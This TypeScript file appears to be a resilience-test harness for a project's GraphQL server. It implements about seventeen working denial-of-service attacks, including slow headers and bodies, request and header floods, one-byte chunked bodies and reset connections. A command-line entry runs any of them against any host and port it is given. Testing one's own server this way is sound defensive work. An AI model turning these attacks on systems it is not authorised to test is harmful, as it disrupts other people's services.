import { connect, type Socket } from 'node:net';
import { constants, setPriority } from 'node:os';
import { setTimeout as sleep } from 'node:timers/promises';
import { fileURLToPath } from 'node:url';

/** Where an attack goes to. */
export interface Target {
  readonly host: string;
  readonly port: number;
}

/** Something that a hostile client does with connections, for as long as it lives. */
export interface SocketAttack {
  readonly name: string;
  run(target: Target): Promise<never>;
}

/** More than one address may have. */
const CONNECTIONS = 300;
const PAUSE_MS = 200;

const post = (length: number, ...headers: string[]) =>
  [
    'POST /graphql HTTP/1.1',
    'host: localhost',
    'content-type: application/json',
    `content-length: ${length}`,
    ...headers,
    '',
    '',
  ].join('\r\n');
const posted = (query: string, ...headers: string[]) => {
  const body = JSON.stringify({ query });
  return post(body.length, ...headers) + body;
};
const chunkedTo = (host: string) =>
  `POST /graphql HTTP/1.1\r\nhost: ${host}\r\ncontent-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n`;
const CHUNKED = chunkedTo('localhost');
const IN_PIECES = '1\r\n \r\n'.repeat(99_000);
/** A large answer for its price: whatever may be asked for of every offering that is listed. */
const LARGE =
  '{ offerings(first: 100) { nodes { id title description provider { id name description } needs: primaryNeeds { code label } } } }';
const ASSET = 'graphiql.js';

/** Keeps so many connections open, a new one for each that is closed; `use` says what is done with one. */
async function hold(
  { host, port }: Target,
  use: (socket: Socket) => void,
  each?: (socket: Socket) => void,
): Promise<never> {
  const open = new Set<Socket>();
  for (;;) {
    while (open.size < CONNECTIONS) {
      const socket = connect(port, host);
      open.add(socket);
      socket.on('error', () => {}).once('close', () => open.delete(socket));
      use(socket);
    }
    await sleep(PAUSE_MS);
    if (each) for (const socket of open) each(socket);
  }
}

/** An attack that says something once on each connection and never reads. */
const saying = (name: string, words: (target: Target) => Promise<string> | string): SocketAttack => ({
  name,
  async run(target) {
    const text = await words(target);
    return hold(target, (socket) => socket.pause().write(text));
  },
});

/** An attack that goes on with a word again and again. */
const dripping = (name: string, first: string, drop: string): SocketAttack => ({
  name,
  run: (target) =>
    hold(
      target,
      (socket) => socket.resume().write(first),
      (socket) => socket.writable && socket.write(drop),
    ),
});

/** Asks for the largest file of the explorer, as it is. */
export async function assetRequest({ host, port }: Target): Promise<string> {
  const page = await fetch(`http://${host}:${port}/graphql`, { headers: { accept: 'text/html' } });
  const path = /\/graphql\/explorer\/[0-9a-f]+\//.exec(await page.text())?.[0];
  return `GET ${path}${ASSET} HTTP/1.1\r\nhost: localhost\r\n\r\n`;
}

/** Every attack, each a kind of its own. */
export const socketAttacks: readonly SocketAttack[] = [
  saying('answers that nobody reads', () => posted(LARGE).repeat(20)),
  saying('files that nobody reads', async (target) => (await assetRequest(target)).repeat(20)),
  saying('400 requests at once', () => 'GET /health/live HTTP/1.1\r\nhost: localhost\r\n\r\n'.repeat(400)),
  saying('connections that say nothing', () => ''),
  dripping('slow headers', 'GET /graphql HTTP/1.1\r\nhost: localhost\r\n', 'x: y\r\n'),
  dripping('slow bodies', `${post(99_000)}{`, ' '),
  saying('bodies in pieces of a byte', () => CHUNKED + IN_PIECES),
  saying('bodies in pieces of a byte that nobody reads', () => chunkedTo('elsewhere') + IN_PIECES),
  dripping('chunk extensions', CHUNKED, `1;${'x'.repeat(1_000)}\r\n \r\n`),
  saying('headers by the hundred', () => `GET / HTTP/1.1\r\n${'a:b\r\n'.repeat(3_000)}\r\n`),
  saying('headers without end', () => `GET / HTTP/1.1\r\nx: ${'x'.repeat(200_000)}`),
  saying('bodies announced and not sent', () => post(90_000, 'expect: 100-continue')),
  saying('upgrades', () => posted('{ __typename }', 'connection: upgrade', 'upgrade: websocket')),
  saying('tunnels', () => 'CONNECT hub:443 HTTP/1.1\r\nhost: localhost\r\n\r\n'),
  saying('compressed bodies', () => posted('{ __typename }', 'content-encoding: gzip').repeat(100)),
  {
    name: 'connections closed halfway',
    run: (target) => hold(target, (socket) => socket.pause().end(posted(LARGE).repeat(5))),
  },
  {
    name: 'connections reset at once',
    run: (target) => hold(target, (socket) => socket.write(posted(LARGE), () => socket.resetAndDestroy())),
  },
];

/** Run as a program, with the name of an attack, a host and a port: makes that attack until it is killed. */
if (process.argv[1] === fileURLToPath(import.meta.url)) {
  const [name, host = '', port] = process.argv.slice(2);
  setPriority(constants.priority.PRIORITY_LOW); // it is another machine's work
  await socketAttacks.find((attack) => attack.name === name)?.run({ host, port: Number(port) });
}
